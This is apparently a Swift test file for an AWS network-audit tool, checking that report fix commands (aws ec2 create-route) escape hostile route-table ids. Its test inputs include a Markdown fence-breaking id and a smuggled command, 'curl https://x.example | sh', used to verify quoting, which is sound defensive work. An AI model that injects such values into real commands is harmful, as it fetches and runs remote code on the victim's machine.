import HubModel
import HubPolicy
@testable import HubReport
import HubRules
import Testing

/// A finding's fix commands are data (`Finding.fixCommands`), set off in the Markdown report as a
/// fenced `sh` block to copy; the ids in them come from the snapshot, so the fence must hold anything.
struct FixCommandsTests {
    /// The spoke's main table lacks the return route; its id is hostile (backticks, a newline, a heading).
    static func missingReturnRoute(tableId: String) -> ReportInput {
        var b = ExampleSnapshot()
        b.vpc("vpc-hub", "10.0.0.0/16")
        b.vpc("vpc-spoke", "10.1.0.0/16", account: "222222222222")
        b.subnet("subnet-hub", vpc: "vpc-hub", "10.0.1.0/24")
        b.subnet("subnet-spoke", vpc: "vpc-spoke", "10.1.1.0/24")
        b.peering("pcx-1", "vpc-hub", "vpc-spoke")
        b.routeTable("rtb-hub", vpc: "vpc-hub", main: true, routes: ["10.1.0.0/16": "pcx-1"])
        b.routeTable(tableId, vpc: "vpc-spoke", main: true)
        var policy = Policy.builtIn
        policy.rules = policy.rules.filter { $0.key == PeeringRoutesRule.description.id }
        return ReportAssembly.assemble(snapshot: b.build(), policy: policy, label: "fix-commands", asOf: "2026-11-30").input
    }

    static let hostileId = "rtb-```\n# owned\n````x"

    @Test func aMissingReturnRouteCarriesTheCreateRouteCommandApartFromTheProse() throws {
        let input = Self.missingReturnRoute(tableId: "rtb-spoke")
        let finding = try #require(input.result.findings.first { $0.caseId == PeeringRoutesRule.missingReturnRoute.id })
        #expect(finding.fixCommands == [
            "aws ec2 create-route --region us-east-1 --route-table-id rtb-spoke --destination-cidr-block 10.0.1.0/24 --vpc-peering-connection-id pcx-1",
        ])
        #expect(finding.remediation.hasSuffix("Run the command in account 222222222222."))
        #expect(!finding.remediation.contains("aws ec2"))
        let text = MarkdownReport.render(input)
        #expect(text.contains("- **Fix:** \(MarkdownText.text(finding.remediation))\n\n  ```sh\n  \(finding.fixCommands[0])\n  ```\n"))
    }

    /// The hostile id is in the command: it stays one line inside a fence longer than its backtick
    /// runs, and nothing after it is taken for a heading.
    @Test func aHostileIdCannotBreakTheCommandsFence() throws {
        let input = Self.missingReturnRoute(tableId: Self.hostileId)
        let finding = try #require(input.result.findings.first { $0.caseId == PeeringRoutesRule.missingReturnRoute.id })
        let command = try #require(finding.fixCommands.first)
        #expect(command.contains("--route-table-id '\(Self.hostileId)' "))
        // The newline is shown, not kept (`TerminalText.escape`): the command stays one line.
        let lines = MarkdownReport.render(input).split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
        #expect(!lines.contains { $0.hasPrefix("# owned") })
        let open = try #require(lines.firstIndex(of: "  `````sh"))
        #expect(lines[open + 1].hasPrefix("  aws ec2 create-route --region us-east-1 --route-table-id 'rtb-```\\u{A}# owned\\u{A}````x' "))
        #expect(lines[open + 2] == "  `````")
    }

    /// JSON carries the commands as an array; a finding without commands has no key.
    @Test func jsonHasFixCommandsOnlyWhereThereAreSome() throws {
        let input = Self.missingReturnRoute(tableId: "rtb-spoke")
        let text = JSONReport.render(input)
        #expect(text.contains("\"fix_commands\" : [\n        \"aws ec2 create-route --region us-east-1 --route-table-id rtb-spoke "))
        var withoutCommands = input
        withoutCommands.result.findings = withoutCommands.result.findings.map { var finding = $0; finding.fixCommands = []; return finding }
        #expect(!JSONReport.render(withoutCommands).contains("fix_commands"))
    }

    /// JUnit and SARIF carry the fix as one text: the commands follow the prose, nothing is lost.
    @Test func junitAndSarifKeepTheCommands() throws {
        let input = Self.missingReturnRoute(tableId: "rtb-spoke")
        let command = "aws ec2 create-route --region us-east-1 --route-table-id rtb-spoke --destination-cidr-block 10.0.1.0/24 "
            + "--vpc-peering-connection-id pcx-1"
        #expect(JUnitReport.render(input).contains("Run the command in account 222222222222.\n    \(command)\n"))
        #expect(SARIFReport.render(input).contains("Run the command in account 222222222222.\\n\(command)"))
    }
}

/// Ids in fix commands come from the snapshot: a hostile one stays one shell word when pasted.
struct FixCommandQuotingTests {
    @Test func aHostileIdIsOneQuotedShellWord() throws {
        let input = FixCommandsTests.missingReturnRoute(tableId: "rtb-1; curl https://x.example | sh; echo 'a'")
        let finding = try #require(input.result.findings.first { $0.caseId == PeeringRoutesRule.missingReturnRoute.id })
        #expect(finding.fixCommands.first?.contains("--route-table-id 'rtb-1; curl https://x.example | sh; echo '\\''a'\\''' ") == true,
                "\(finding.fixCommands)")
    }

    @Test func plainIdsAndPlaceholdersStayAsTheyAre() {
        #expect(AWSCommand.quoted("tgw-attach-0a1b") == "tgw-attach-0a1b")
        #expect(AWSCommand.quoted("us-east-1") == "us-east-1")
        #expect(AWSCommand.quoted(AWSCommand.placeholder("attachment-id")) == "<attachment-id>")
        // A snapshot value spelled like a placeholder is still quoted: `<` and `>` would redirect.
        #expect(AWSCommand.quoted("<attachment-id>") == "'<attachment-id>'")
        #expect(AWSCommand.quoted("$(id)") == "'$(id)'")
        #expect(AWSCommand.quoted("") == "''")
    }
}
